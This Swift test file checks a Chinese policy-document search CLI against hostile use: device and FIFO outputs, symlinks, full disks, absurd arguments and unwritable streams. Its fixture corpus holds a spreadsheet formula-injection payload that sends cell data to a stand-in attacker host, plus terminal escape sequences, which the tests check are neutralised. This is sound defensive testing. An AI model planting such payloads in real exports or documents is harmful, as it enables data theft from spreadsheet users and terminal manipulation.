import Foundation
import TestSupport
import Testing

/// The CLI as a hostile (or unlucky) user meets it: outputs that are devices,
/// links or on a full disk, documents that hold formulas and terminal
/// escapes, absurd numbers, and standard streams that cannot be written.
/// Nothing of the user's may be lost, nothing may trap, every error is one
/// line with exit status 2.
@Suite struct HostileUseTests {
    let folder = TemporaryFolder()

    func corpus() -> CommandRunner {
        folder.write("Corpus/a.md", """
            # 数据交易管理办法

            第一条　为了规范数据交易，制定本办法。
            =HYPERLINK("http://evil.example/?x="&A1,"数据交易")
            -1+1 数据交易 @SUM(A1:A9)
            第二条　数据交易所\u{1B}]0;owned\u{07}\u{1B}[31m红色\u{9B}数据交易中心
            """)
        return CommandRunner(workingDirectory: folder.path)
    }

    /// The corpus, indexed (so that stderr holds only what the command says).
    func indexed() throws -> CommandRunner {
        let cli = corpus()
        #expect(try cli.run(["index", "--quiet"]).status == 0)
        return cli
    }

    /// Runs the binary with its standard output and error going to the given
    /// files (such as /dev/full), or closed when nil.
    func run(_ arguments: [String], stdout: String?, stderr: String?) throws -> Int32 {
        let process = Process()
        process.executableURL = URL(fileURLWithPath: CommandRunner.binary)
        process.arguments = arguments
        process.currentDirectoryURL = URL(fileURLWithPath: folder.path)
        process.standardOutput = stdout.flatMap { FileHandle(forWritingAtPath: $0) } ?? FileHandle.nullDevice
        process.standardError = stderr.flatMap { FileHandle(forWritingAtPath: $0) } ?? FileHandle.nullDevice
        try process.run()
        process.waitUntilExit()
        #expect(process.terminationReason == .exit, "\(arguments) ended by a signal")
        return process.terminationStatus
    }

    @Test func anExportToADeviceIsRefusedAndTheNodeStays() throws {
        let cli = try indexed()
        let node = folder.file("n.xlsx")
        guard mknod(node, S_IFCHR | 0o666, dev_t((1 << 8) | 7)) == 0 else {
            print("skipped: cannot make a device node here (\(String(cString: strerror(errno))))")
            return
        }
        for format in ["xlsx", "csv"] {
            let output = try cli.run(["export", "数据", "-o", "n.xlsx", "--format", format])
            #expect(output.status == 2)
            #expect(output.stderr == "policy-search: error: cannot write n.xlsx: it is a device, not a regular file\n")
            var info = stat()
            #expect(lstat(node, &info) == 0 && info.st_mode & S_IFMT == S_IFCHR, "the device node was replaced")
        }
        let kwic = try cli.run(["kwic", "数据", "-o", "n.xlsx"])
        #expect(kwic.status == 2)
        let fifo = folder.file("f.csv")
        #expect(mkfifo(fifo, 0o644) == 0)
        let toFifo = try cli.run(["export", "数据", "-o", "f.csv"])
        #expect(toFifo.stderr == "policy-search: error: cannot write f.csv: it is a FIFO, not a regular file\n")
        try FileManager.default.createDirectory(atPath: folder.file("dir.csv"), withIntermediateDirectories: true)
        let toFolder = try cli.run(["export", "数据", "-o", "dir.csv"])
        #expect(toFolder.stderr == "policy-search: error: cannot write dir.csv: it is a folder, not a file\n")
    }

    @Test(arguments: ["csv", "xlsx"]) func anExportThroughALinkReplacesItsTargetAndKeepsTheLink(format: String) throws {
        let cli = corpus()
        folder.write("real/hits.\(format)", "old content\n")
        try FileManager.default.createSymbolicLink(atPath: folder.file("link.\(format)"), withDestinationPath: "real/hits.\(format)")
        let output = try cli.run(["export", "数据交易", "-o", "link.\(format)"])
        #expect(output.status == 0, "\(output.stderr)")
        #expect(try FileManager.default.destinationOfSymbolicLink(atPath: folder.file("link.\(format)")) == "real/hits.\(format)")
        let written = try #require(FileManager.default.contents(atPath: folder.file("real/hits.\(format)")))
        #expect(written.count > 100)
        if format == "csv" { #expect(String(decoding: written, as: UTF8.self).contains("数据交易管理办法")) }
        // No temporary file is left beside it.
        #expect(try FileManager.default.contentsOfDirectory(atPath: folder.file("real")) == ["hits.\(format)"])
    }

    /// A full disk: the export fails with the system's reason naming the file,
    /// and the user's previous file is as it was (a tmpfs of 64 KiB).
    @Test(arguments: ["csv", "xlsx", "jsonl"]) func aFullDiskLeavesThePreviousFileAsItWas(format: String) throws {
        let cli = corpus()
        // Enough passages that an export overflows 64 KiB.
        folder.write("Corpus/big.txt", (0..<3000).map { "第\($0)条　数据交易平台建设，完善数据安全保障体系，提升数据治理能力。" }.joined(separator: "\n"))
        #expect(try cli.run(["index", "--quiet"]).status == 0)
        let disk = folder.file("disk")
        try FileManager.default.createDirectory(atPath: disk, withIntermediateDirectories: true)
        guard mount("tmpfs", disk, "tmpfs", 0, "size=64k") == 0 else {
            print("skipped: cannot mount a small tmpfs here (\(String(cString: strerror(errno))))")
            return
        }
        defer { umount(disk) }
        let previous = "rank,text\r\n1,my own careful work\r\n"
        folder.write("disk/hits.\(format)", previous)
        let output = try cli.run(["export", "数据交易", "-o", "disk/hits.\(format)"])
        #expect(output.status == 2)
        #expect(output.stderr == "policy-search: error: cannot write disk/hits.\(format): No space left on device\n")
        #expect(String(decoding: FileManager.default.contents(atPath: folder.file("disk/hits.\(format)")) ?? Data(), as: UTF8.self) == previous)
        #expect(try FileManager.default.contentsOfDirectory(atPath: disk) == ["hits.\(format)"])
    }

    /// Cells a spreadsheet would evaluate get a leading ' (OWASP), in every
    /// delimited output; a plain number does not.
    @Test func formulaCellsAreNeutralized() throws {
        let cli = corpus()
        let export = try cli.run(["export", "数据交易", "-o", "-", "--format", "csv"])
        #expect(export.status == 0)
        #expect(export.stdout.contains("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"数据交易\"\")\""))
        #expect(export.stdout.contains(",'-1+1 数据交易 @SUM(A1:A9),"))
        for line in export.stdout.split(separator: "\r\n").dropFirst() {
            for cell in line.split(separator: ",") {
                let first = cell.drop { $0 == "\"" || $0 == " " }.first
                #expect(!["=", "+", "-", "@"].contains(first), "\(cell)")
            }
        }
        let tsv = try cli.run(["kwic", "HYPERLINK", "-o", "-", "--format", "tsv"])
        #expect(!tsv.stdout.contains("\t=HYPERLINK") && tsv.stdout.contains("'=HYPERLINK") || tsv.stdout.contains("\t'"),
                "\(tsv.stdout)")
        let tally = try cli.run(["tally", "=数据", "--format", "csv"])
        #expect(tally.stdout.contains("'=数据 documents"))
    }

    /// Escapes and other controls from documents reach the terminal as
    /// visible text, even without colour.
    @Test func terminalControlsFromDocumentsAreShownNotObeyed() throws {
        let cli = corpus()
        folder.write("Corpus/\u{1B}[2Jname.md", "数据交易\u{1B}[2J\n")
        for arguments in [["search", "数据交易所", "--color", "never"], ["kwic", "数据交易"], ["documents"],
                          ["search", "数据交易", "--color", "always", "--all"]] {
            let output = try cli.run(arguments)
            #expect(output.status == 0, "\(arguments): \(output.stderr)")
            let raw = output.stdout.unicodeScalars.filter { $0.value == 0x07 || $0.value == 0x9B }
            #expect(raw.isEmpty, "\(arguments)")
            if !arguments.contains("always") {
                #expect(!output.stdout.unicodeScalars.contains("\u{1B}"), "\(arguments)")
            }
            #expect(output.stdout.contains("\\x1b"), "\(arguments)")
        }
    }

    /// Usage errors are one line and exit status 2, as every other error.
    @Test(arguments: [
        ["search", "--limit=-1", "数据"], ["search", "--limit", "-1", "数据"], ["search", "--b", "2", "数据"],
        ["search", "--b", "nan", "数据"], ["search", "--k1", "nan", "数据"], ["search", "--k1", "inf", "数据"],
        ["search", "--format", "xml", "数据"], ["search", "--limit", "abc", "数据"], ["index", "--threads", "0"],
        ["index", "--threads", "9223372036854775807"], ["tally"], ["kwic", "--width", "0", "数据"],
        ["kwic", "--width", "9223372036854775807", "数据"], ["export", "数据", "-o", "x.xml"], ["index", ""],
        ["search", "--limt", "3", "数据"], ["nonsense-command-that-is-a-query-part", "--bogus"],
    ]) func usageErrorsAreOneLineAndStatusTwo(arguments: [String]) throws {
        let output = try corpus().run(arguments)
        #expect(output.status == 2, "\(arguments): \(output.stderr)")
        #expect(output.stderr.hasPrefix("policy-search: error: "), "\(arguments): \(output.stderr)")
        #expect(output.stderr.filter { $0 == "\n" }.count == 1, "\(arguments): \(output.stderr)")
        #expect(!output.stderr.contains("Usage:"))
    }

    @Test func absurdPagesAreEmptyNotATrap() throws {
        let cli = corpus()
        let far = try cli.run(["search", "数据", "--offset", "9223372036854775807"])
        #expect(far.status == 0)
        #expect(far.stdout.hasPrefix("5 passages in 1 document match 数据 (none shown)"))
        let long = try cli.run(["search", "数据", "--offset", "1", "--limit", "9223372036854775807"])
        #expect(long.status == 0)
        #expect(long.stdout.hasPrefix("5 passages in 1 document match 数据 (showing 2–5)"))
    }

    /// A standard error that cannot be written loses the message, not the
    /// process; a standard output that cannot be written is an error (2).
    @Test func unwritableStandardStreamsNeverTrap() throws {
        _ = corpus()
        folder.write("Corpus/broken.pdf", "%PDF-1.4 not really")
        #expect(try run(["index", "Corpus"], stdout: nil, stderr: "/dev/full") == 0)
        #expect(try run(["search", "数据", "--limit", "abc"], stdout: nil, stderr: "/dev/full") == 2)
        #expect(try run(["search", "不存在的词"], stdout: nil, stderr: nil) == 1)
        for arguments in [["stats"], ["analyze", "数据交易"], ["index", "Corpus"], ["search", "数据"], ["documents"]] {
            #expect(try run(arguments, stdout: "/dev/full", stderr: nil) == 2, "\(arguments)")
        }
    }

    /// `--` ends the options: what follows is the query, not an option.
    @Test func aDoubleDashIsNotPartOfTheQuery() throws {
        let output = try corpus().run(["search", "--limit", "1", "--", "数据交易"])
        #expect(output.status == 0)
        #expect(output.stdout.hasPrefix("5 passages in 1 document match 数据交易 (showing 1–1)"), "\(output.stdout)")
    }

    /// Several first searches at once: one builds, the others wait for it
    /// and answer from what it committed.
    @Test func concurrentFirstSearchesWaitForTheBuild() throws {
        let cli = corpus()
        for index in 0..<40 { folder.write("Corpus/more\(index).md", String(repeating: "数据交易平台建设。\n", count: 300)) }
        final class Statuses: @unchecked Sendable {
            let lock = NSLock()
            var values: [Int32] = []
            var errors: [String] = []
        }
        let statuses = Statuses()
        DispatchQueue.concurrentPerform(iterations: 4) { _ in
            let output = try? cli.run(["search", "数据交易", "--limit", "1"])
            statuses.lock.lock()
            statuses.values.append(output?.status ?? -1)
            if let output, output.status != 0 { statuses.errors.append(output.stderr) }
            statuses.lock.unlock()
        }
        #expect(statuses.values == [0, 0, 0, 0], "\(statuses.errors)")
    }

    /// A FIFO named as a document to extract, a dictionary, a segmentation
    /// input or a segment is refused at once, never waited on.
    @Test func fifosAreRefusedNotWaitedOn() throws {
        let cli = try indexed()
        #expect(mkfifo(folder.file("pipe"), 0o644) == 0)
        for arguments in [["extract", "pipe"], ["analyze", "数据", "--dictionary", "pipe"], ["segment", "pipe"]] {
            let output = try cli.run(arguments)
            #expect(output.status == 2, "\(arguments)")
            #expect(output.stderr.hasSuffix("pipe: it is a FIFO, not a regular file\n"), "\(arguments): \(output.stderr)")
        }
        let segment = try #require(try FileManager.default.contentsOfDirectory(atPath: folder.file("Index")).first { $0.hasPrefix("seg-") })
        unlink(folder.file("Index/" + segment))
        #expect(mkfifo(folder.file("Index/" + segment), 0o644) == 0)
        let search = try cli.run(["search", "数据"])
        #expect(search.status == 2)
        #expect(search.stderr.contains("it is not a regular file"), "\(search.stderr)")
    }
}

